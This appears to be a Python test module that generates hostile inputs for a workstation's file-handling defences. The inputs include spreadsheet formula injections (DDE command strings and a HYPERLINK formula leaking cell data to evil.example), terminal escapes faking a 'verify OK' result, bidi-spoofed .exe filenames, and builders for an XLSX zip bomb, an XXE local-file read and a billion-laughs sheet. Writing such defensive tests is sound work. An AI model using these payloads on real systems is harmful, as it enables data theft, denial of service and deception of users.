"""The hostile-input corpus: what people who send files to the workstation may put in them.

Generated here, not stored: each list covers one kind of attack the probe of issue 10 used.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

# Spreadsheet formulas (OWASP CSV injection): DDE command, hyperlink, and the other starters.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
# Text a spreadsheet reads as a number, not a formula: left alone.
HARMLESS_NUMBERS = ("+821012345678", "-3.5", "-")

# Terminal control: clear the screen and fake a verdict, overwrite a line, bell, backspace,
# an 8-bit CSI, a line separator.
TERMINAL = (
    "\x1b[2J\x1b[Hverify OK: all files match",
    "innocent\rOVERWRITTEN",
    "bell\x07",
    "back\x08\x08\x08space",
    "\x9b31mred",
    "line\u2028break",
)
# Right-to-left overrides, embeddings and isolates: "gpj.exe" posing as a photo.
BIDI = (
    "photo_\u202egpj.exe",
    "\u2067isolate\u2069.jpg",
    "\u202bembedded\u202c",
    "mark\u200f.png",
)
FAKE_VERDICT = "verify OK"


def every_control_is_escaped(text: str) -> bool:
    """True when `text` holds no C0/C1 control, bidirectional control or line separator
    (tab and newline excepted, which output uses between fields and lines)."""
    for ch in text:
        code = ord(ch)
        if ch in "\t\n":
            continue
        if code < 0x20 or 0x7F <= code < 0xA0 or code in (0x2028, 0x2029, 0x061C):
            return False
        if 0x200E <= code <= 0x200F or 0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069:
            return False
    return True


# ---- archives ---------------------------------------------------------------------------------
def xlsx_bomb(path: Path, uncompressed: int = 300 * 1024 * 1024) -> Path:
    """An XLSX whose one sheet inflates from a few hundred kilobytes to `uncompressed` bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="' + _NS + b'"><sheetData>')
            block = b" " * (1024 * 1024)
            for _ in range(uncompressed // len(block)):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return path


def xlsx_with_sheet(path: Path, sheet_xml: bytes) -> Path:
    """A minimal XLSX whose first sheet is `sheet_xml` (for XXE and billion-laughs files)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return path


def xxe_sheet(target: Path) -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://'
        + str(target).encode()
        + b'">]>\n<worksheet xmlns="'
        + _NS
        + b'"><dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        b"&xxe;</t></is></c></row></sheetData></worksheet>"
    )


def billion_laughs_sheet() -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{("&lol" + str(level - 1) + ";") * 10}">'.encode())
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [' + b"".join(entities) + b"]>\n"
        b'<worksheet xmlns="' + _NS + b'"><dimension ref="A1:B2"/><sheetData><row r="1">'
        b'<c r="A1" t="inlineStr">'
        b"<is><t>&lol9;</t></is></c></row></sheetData></worksheet>"
    )


_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
    'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
